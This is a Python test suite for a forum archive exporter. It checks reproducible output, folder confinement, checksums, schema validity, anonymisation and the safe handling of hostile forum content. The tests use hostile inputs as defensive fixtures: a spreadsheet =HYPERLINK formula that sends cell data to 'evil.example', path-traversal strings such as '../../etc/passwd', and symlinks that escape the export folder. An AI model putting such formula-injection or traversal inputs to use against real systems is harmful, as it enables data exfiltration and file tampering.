"""Exports hold everything, the same every time, in a folder that is theirs alone."""

import hashlib
import json
import mailbox
import os
import re
import shutil
import subprocess
import sys
from dataclasses import replace
from email.message import Message
from email.utils import parseaddr
from importlib.resources import files as resources
from pathlib import Path
from typing import Any

import fsspec
import jsonschema
import pyarrow.parquet as pq
import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from ruamel.yaml import YAML

from koweb_sync.archive.exports import json_form
from koweb_sync.archive.exports.export import EXPORTS
from koweb_sync.archive.exports.folder import MARK, SUMS, WRITING, Folder, write
from koweb_sync.archive.exports.formats.md import head, name
from koweb_sync.archive.read.model import ArchivedForum, ArchivedPerson, ArchivedPost, ArchivedTopic, ArchiveFilter
from koweb_sync.archive.read.reader import Reader
from koweb_sync.archive.store.store import Store
from koweb_sync.errors import InputError
from tests.archive.exhibits import PNG, START, URL, crowd, friendly, hold, hostile, keep, post, topic
from tests.archive.exporting import claire_in, contents, exported, forget_claire, words_in
from tests.gate import fewer


def lines(folder: Path, file: str) -> list[Any]:
    """The values of a file of JSON lines."""
    return [json.loads(line) for line in (folder / file).read_bytes().split(b"\n")[:-1]]


# ---- the folder


@pytest.mark.parametrize("style", EXPORTS.names())
def test_the_same_archive_gives_the_same_bytes(both: tuple[Store, Store], tmp_path: Path, style: str) -> None:
    for nth, store in enumerate(both):
        exported(store, friendly(store), style, tmp_path / str(nth))
    first, second = contents(tmp_path / "0"), contents(tmp_path / "1")
    assert first.keys() == second.keys()
    assert [path for path in first if first[path] != second[path]] == []
    again = exported(both[0], 1, style, tmp_path / "0")
    assert (again.written, again.removed) == (0, 0)
    assert contents(tmp_path / "0") == first


@pytest.mark.parametrize("style", EXPORTS.names())
def test_a_name_goes_from_a_copy_of_any_export_that_can_be_changed(store: Store, tmp_path: Path, style: str) -> None:
    exported(store, friendly(store), style, tmp_path / "out")
    forget_claire(tmp_path / "out")
    fixed = {kind.suffix for kind in EXPORTS.get(style).files if kind.renamed is None}
    left = [one for one in claire_in(tmp_path / "out") if Path(one.where).suffix not in fixed]
    left = [one for one in left if Path(one.where).parent.name != "search"]  # a site's words: named, not changed
    assert left == [], f"`renamed` of a FileKind of {style} leaves names; see koweb_sync/archive/exports/export.py"


@pytest.mark.parametrize("style", EXPORTS.names())
def test_hostile_content_stays_in_the_folder(store: Store, tmp_path: Path, style: str) -> None:
    (tmp_path / "around").mkdir()
    exported(store, hostile(store), style, tmp_path / "around" / "out")
    assert {one.name for one in tmp_path.iterdir()} <= {"around", "home"} | {
        one.name for one in tmp_path.glob("*.sqlite*")
    }
    assert [one.name for one in (tmp_path / "around").iterdir()] == ["out"]
    endings = {path.rpartition(".")[2] for path in contents(tmp_path / "around" / "out") if path.startswith("files/")}
    assert endings <= {"png", "svg", "bin"}


def test_sums_are_those_of_sha256sum(store: Store, tmp_path: Path) -> None:
    exported(store, friendly(store), "site", tmp_path / "out")
    done = subprocess.run(
        ["sha256sum", "--check", "--quiet", SUMS], cwd=tmp_path / "out", capture_output=True, check=False
    )
    assert (done.returncode, done.stdout) == (0, b"")
    listed = {line.split("  ")[1] for line in (tmp_path / "out" / SUMS).read_text().splitlines()}
    assert listed == contents(tmp_path / "out").keys() - {SUMS, MARK}


def test_a_folder_with_other_things_is_refused_and_left_alone(store: Store, tmp_path: Path) -> None:
    forum = friendly(store)
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "lettre.txt").write_text("à moi")
    with pytest.raises(InputError, match="not empty"):
        exported(store, forum, "md", folder)
    assert contents(folder) == {"lettre.txt": "à moi".encode()}
    exported(store, forum, "md", folder, force=True)
    exported(store, forum, "md", folder)
    assert (folder / "lettre.txt").read_text() == "à moi"
    with pytest.raises(InputError, match="another export"):
        exported(store, forum, "site", folder)


def test_an_update_removes_what_is_ours_and_gone_and_nothing_else(store: Store, tmp_path: Path) -> None:
    forum, folder = friendly(store), tmp_path / "out"
    exported(store, forum, "md", folder)
    changed, mine = folder / "topics" / "12-sujet-12.md", folder / "topics" / "mien.md"
    changed.write_text("J’y ai mis une note.")
    mine.write_text("à moi")
    done = exported(store, forum, "md", folder, ArchiveFilter(topics=frozenset([10])))
    assert (done.removed, done.kept) == (1, ["topics/12-sujet-12.md"])
    assert {path.name for path in (folder / "topics").iterdir()} == {"10-sujet-10.md", "12-sujet-12.md", "mien.md"}


def test_sums_that_somebody_wrote_lead_nowhere(store: Store, tmp_path: Path) -> None:
    forum, folder = friendly(store), tmp_path / "out"
    exported(store, forum, "mbox", folder)
    victim = tmp_path / "victime.txt"
    victim.write_text("ne pas toucher")
    digest = hashlib.sha256(victim.read_bytes()).hexdigest()
    with (folder / SUMS).open("a") as sums:
        sums.write(f"{digest}  ../victime.txt\n{digest}  {victim}\n{'0' * 64}  koweb-export.json\n")
    (folder / WRITING).write_text("../victime.txt\n/etc/hostname\n")
    exported(store, forum, "mbox", folder)
    assert victim.read_text() == "ne pas toucher"


def test_links_do_not_lead_an_export_out_of_its_folder(store: Store, tmp_path: Path) -> None:
    forum, folder, outside = friendly(store), tmp_path / "out", tmp_path / "dehors"
    exported(store, forum, "md", folder)
    outside.mkdir()
    shutil.rmtree(folder / "topics")
    (folder / "topics").symlink_to(outside)
    with pytest.raises(InputError, match="link"):
        exported(store, forum, "md", folder)
    assert list(outside.iterdir()) == []
    (folder / "topics").unlink()
    (folder / "topics").mkdir()
    (outside / "cible.md").write_text("cible")
    (folder / "topics" / "10-sujet-10.md").symlink_to(outside / "cible.md")
    with pytest.raises(InputError, match="link"):
        exported(store, forum, "md", folder)
    assert (outside / "cible.md").read_text() == "cible"


def test_a_killed_export_is_repaired_by_the_next(store: Store, tmp_path: Path) -> None:
    forum, folder = friendly(store), tmp_path / "out"
    where = Folder(folder, "md", URL)
    write(where, "topics/77-reste.md", "d’un sujet qui n’est plus là")
    with pytest.raises(RuntimeError), where.file("topics/10-sujet-10.md") as out:
        out.write(b"la moiti")
        raise RuntimeError
    assert not (folder / "topics" / "10-sujet-10.md").exists()
    exported(store, forum, "md", folder)
    fresh = tmp_path / "neuf"
    exported(store, forum, "md", fresh)
    assert contents(folder) == contents(fresh)


@pytest.mark.parametrize("path", ["../x", "/x", "a/../x", ".x", "a//b", "a\\b", "", "é", "SHA256SUMS", "a/.b"])
def test_no_other_path_is_ever_written(tmp_path: Path, path: str) -> None:
    with pytest.raises(ValueError), Folder(tmp_path / "out", "md", URL).file(path):
        pass


def test_an_address_works_like_a_folder(store: Store, tmp_path: Path) -> None:
    forum = friendly(store)
    place = f"memory://exports/{tmp_path.name}"
    exported(store, forum, "parquet", place)
    exported(store, forum, "parquet", tmp_path / "out")
    files = fsspec.filesystem("memory")
    found = {
        path.partition(f"{tmp_path.name}/")[2]: files.cat_file(path) for path in files.find(f"/exports/{tmp_path.name}")
    }
    assert found == contents(tmp_path / "out")
    done = exported(store, forum, "parquet", place, ArchiveFilter(topics=frozenset([11])))
    assert done.removed > 0
    with pytest.raises(InputError, match="another export"):
        exported(store, forum, "jsonl", place)
    with pytest.raises(InputError):
        exported(store, forum, "jsonl", "nowhere-known://x")


# ---- what is in it


def test_json_lines_are_as_their_schema_says(store: Store, tmp_path: Path) -> None:
    for nth, fill in enumerate((friendly, hostile)):
        exported(store, fill(store), "jsonl", tmp_path / str(nth), force=True)
        folder = tmp_path / str(nth)
        schema = json.loads((folder / "schema.json").read_text())
        jsonschema.Draft202012Validator.check_schema(schema)
        kinds = {"topics": "topic", "posts": "post", "people": "person", "categories": "category"}
        for file, kind in kinds.items():
            validator = jsonschema.Draft202012Validator({**schema, "anyOf": [{"$ref": f"#/$defs/{kind}"}]})
            values = lines(folder, f"{file}.jsonl")
            assert values
            for value in values:
                validator.validate(value)


SHAPES = {1: "549c50c9037e3cfb", 2: "96c2a05430c41bdb", 3: "245fc5e39182005d"}  # of the schema, by its version


def shape(schema: Any) -> Any:
    """What a schema asks for, without the words in which it says so."""
    if isinstance(schema, dict):
        said = {name for name in ("$id", "title", "description") if isinstance(schema.get(name), str)}
        return {name: shape(value) for name, value in schema.items() if name not in said}
    return [shape(one) for one in schema] if isinstance(schema, list) else schema


def test_a_schema_that_asks_for_something_else_has_another_version() -> None:
    schema = json.loads((resources("koweb_sync.archive.exports") / "schema.json").read_bytes())
    found = hashlib.sha256(json.dumps(shape(schema), sort_keys=True).encode()).hexdigest()[:16]
    assert SHAPES.get(json_form.VERSION) == found, "give the form a new VERSION, and note here what it asks for"
    assert list(SHAPES) == list(range(1, json_form.VERSION + 1))
    assert (schema["$id"].rpartition("-")[2], schema["title"].rpartition(" ")[2]) == (
        f"{json_form.VERSION}.json",
        str(json_form.VERSION),
    )


def test_json_lines_hold_every_text_and_like(store: Store, tmp_path: Path) -> None:
    forum = friendly(store)
    exported(store, forum, "jsonl", tmp_path / "out")
    posts = {one["id"]: one for one in lines(tmp_path / "out", "posts.jsonl")}
    assert len(posts) == 8
    assert [one["raw"] for one in posts[3]["versions"]] == ["Merci !", "Merci à tous !"]
    assert [one["person"]["username"] for one in posts[2]["likes"]] == ["claire", "bilal"]
    assert posts[4]["author"] is None
    assert posts[5]["gone"] == "whisper"
    kept = tmp_path / "out" / posts[2]["files"][0]["path"]
    assert hashlib.sha256(kept.read_bytes()).hexdigest() == posts[2]["files"][0]["sha256"]
    assert {one["username"] for one in lines(tmp_path / "out", "people.jsonl")} == {"claire", "bilal", "system"}


NASTY = st.text(st.characters(exclude_categories=["Cs"]), max_size=60)


@given(NASTY, st.lists(NASTY, max_size=3), NASTY)
@example("--- : # & * ! | > ' \" % @ ` {} [] null ~ yes 1e3 0x1f 2026-01-01", ["- a", "?"], "Ʋ\u0085\u2028\ufeff\t")
@example("", [""], "\x00\x1b\x07")
@example("\x85", ["\u2028"], "\x85")
@example("off", ["no", "y", "12:30", "1:1", "1e3", "0o17", "=", "<<", "1_000", ".5"], "2026-11-24 10:00:00")
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=fewer(150))
def test_front_matter_says_what_was_said(title: str, tags: list[str], author: str) -> None:
    text = head(ArchivedTopic(5, title, tags=tuple(tags)), ArchivedForum(1, "kafe", URL, "", "", None), [author])
    front = re.split(r"^---\n", text, flags=re.MULTILINE)[1]
    for read in (YAML(typ="safe", pure=True).load(front), yaml.safe_load(front)):
        assert read["title"] == (title or "Topic 5")
        assert (read.get("tags", []), read["authors"]) == (tags, [author])


@given(st.text(max_size=200))
@example("../../etc/passwd")
@example("CON")
def test_names_of_files_are_plain(slug: str) -> None:
    assert re.fullmatch(r"5(-[a-z0-9]+)*", name(ArchivedTopic(5, "x", slug=slug)))


def test_markdown_keeps_each_text_and_shows_pictures_beside(store: Store, tmp_path: Path) -> None:
    forum = friendly(store)
    source = f"{URL}/uploads/default/original/1X/abc.png"
    raw = "![plan|3x2](upload://abc.png) et `upload://abc.png` dans du code"
    cooked = f'<img src="{source}" data-base62-sha1="abc"><code>upload://abc.png</code>'
    keep(store, [topic(13, "Un [titre] *piégé*")], [post(20, 13, 1, raw, cooked=cooked)])
    hold(store, [(source, PNG, "image/png")])
    exported(store, forum, "md", tmp_path / "out")
    picture = f"../files/{hashlib.sha256(PNG).hexdigest()}.png"
    own = (tmp_path / "out" / "topics" / "13-sujet-13.md").read_text()
    assert f"![plan|3x2]({picture}) et `upload://abc.png` dans du code" in own
    assert "# Un \\[titre\\] \\*piégé\\*" in own
    text = (tmp_path / "out" / "topics" / "10-sujet-10.md").read_text()
    assert f"Un pad. Voir le compte rendu.\n\n![plan]({picture})" in text
    assert "## Bilal Meziane · #2" in text
    assert "in reply to Claire Moreau (\\#1)" in text
    assert "deleted on the forum" in text


def test_mail_is_threaded_and_names_no_address(store: Store, tmp_path: Path) -> None:
    forum = friendly(store)
    keep(store, [], [post(9, 11, 3, "From moi\nFrom toi\n>From lui\n.\n" + "x" * 2000 + "\nfin", reply_to=1)])
    exported(store, forum, "mbox", tmp_path / "out")
    box = mailbox.mbox(tmp_path / "out" / "forum.mbox", create=False)
    messages = {one["Message-ID"]: one for one in box}
    assert len(messages) == 9
    host = "kafe.example.org.invalid"
    third = messages[f"<post-3@{host}>"]
    assert third["In-Reply-To"] == f"<post-2@{host}>"
    assert third["References"].split() == [f"<post-1@{host}>", f"<post-2@{host}>"]
    assert third["List-Id"] == f"<{host}>"
    assert body(third).startswith("Merci à tous !\n\n[In the language “en” · translated by a machine")
    assert messages[f"<post-4@{host}>"]["In-Reply-To"] == f"<post-1@{host}>"
    odd = body(messages[f"<post-9@{host}>"])
    assert odd == "From moi\nFrom toi\n>From lui\n.\n" + "x" * 2000 + "\nfin"
    for message in messages.values():
        for header in ("From", "To"):
            assert parseaddr(str(message[header]))[1].endswith(".invalid")
    box.close()


def body(message: Message) -> str:
    """The text of a message."""
    content = message.get_payload(decode=True)
    assert isinstance(content, bytes)
    return content.decode()


def test_a_mailbox_of_attacks_has_a_message_for_each_post(store: Store, tmp_path: Path) -> None:
    forum = hostile(store)
    exported(store, forum, "mbox", tmp_path / "out")
    box = mailbox.mbox(tmp_path / "out" / "forum.mbox", create=False)
    with store.read() as connection:
        assert len(box) == Reader(connection, forum).count().posts
    assert {one["List-Id"] for one in box} == {"<kafe.example.org.invalid>"}
    box.close()


def test_parquet_has_every_row_in_its_month(store: Store, tmp_path: Path) -> None:
    forum = friendly(store)
    exported(store, forum, "parquet", tmp_path / "out")
    table = pq.read_table(tmp_path / "out" / "posts")
    assert table.num_rows == 8
    assert str(table.schema.field("created").type) == "timestamp[us, tz=UTC]"
    rows = {row["id"]: row for row in table.to_pylist()}
    assert rows[2]["likes"] == 3
    assert int(rows[1]["created"].timestamp()) * 1_000_000 == START + 3_600_000_000
    assert str(rows[1]["month"]) == "2023-11"
    likes = pq.read_table(tmp_path / "out" / "likes").to_pylist()
    assert {(row["post"], row["person"]) for row in likes} == {(2, 7), (2, 8)}
    edges = pq.read_table(tmp_path / "out" / "edges").to_pylist()
    assert (2, "link", 11) in {(row["post"], row["kind"], row["to_topic"]) for row in edges}
    assert pq.read_table(tmp_path / "out" / "versions").num_rows == 2
    assert {row["username"] for row in pq.read_table(tmp_path / "out" / "people").to_pylist()} == {
        "claire",
        "bilal",
        "system",
    }


def test_formulae_are_kept_as_text(store: Store, tmp_path: Path) -> None:
    forum = hostile(store)
    exported(store, forum, "parquet", tmp_path / "out")
    raws = pq.read_table(tmp_path / "out" / "posts").column("raw").to_pylist()
    assert '=HYPERLINK("https://evil.example/?"&A1,"gratuit")' in raws


class Masks:
    """Nobody has a name."""

    def person(self, one: ArchivedPerson) -> ArchivedPerson:
        """A number in place of a name."""
        return ArchivedPerson(one.id, f"p{one.id}", "")

    def topic(self, one: ArchivedTopic) -> ArchivedTopic:
        """Without its titles in other languages."""
        return replace(one, translations=())

    def post(self, one: ArchivedPost) -> ArchivedPost:
        """Without texts."""
        gone = {"raw": "texte", "cooked": "<p>texte</p>", "versions": (), "pointers": (), "translations": ()}
        return ArchivedPost(**{**{field: getattr(one, field) for field in ArchivedPost.__dataclass_fields__}, **gone})


@pytest.mark.parametrize("style", EXPORTS.names())
def test_everything_goes_through_the_disguise(store: Store, tmp_path: Path, style: str) -> None:
    exported(store, friendly(store), style, tmp_path / "out", disguise=Masks())
    found = words_in(tmp_path / "out")
    assert "p7" in found
    for word in ("claire", "Claire", "Moreau", "bilal", "Bilal"):
        assert word not in found


MEASURED = """
import resource, sys
from pathlib import Path
from koweb_sync.archive.exports.export import export, target
from koweb_sync.archive.read.reader import Reader
from koweb_sync.archive.read.model import ArchiveFilter
from koweb_sync.archive.store.store import Store
with Store.open(sys.argv[1]) as store, store.read() as connection:
    for style in sys.argv[3:]:
        export(Reader(connection, 1), style, target(f"{sys.argv[2]}/{style}", style, "u"), ArchiveFilter())
        print(style, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""


@pytest.mark.soak
@pytest.mark.timeout(900)
def test_a14_memory_does_not_grow_with_the_forum(tmp_path: Path) -> None:
    with Store.open(str(tmp_path / "big.sqlite")) as store:
        crowd(store, 100_000)
    words = [sys.executable, "-c", MEASURED, str(tmp_path / "big.sqlite"), str(tmp_path / "out"), *EXPORTS.names()]
    done = subprocess.run(words, capture_output=True, text=True, check=True, env={**os.environ})
    used = dict(line.split() for line in done.stdout.splitlines())
    assert max(map(int, used.values())) < 400, used
    assert len((tmp_path / "out" / "jsonl" / "posts.jsonl").read_bytes().split(b"\n")) == 100_001
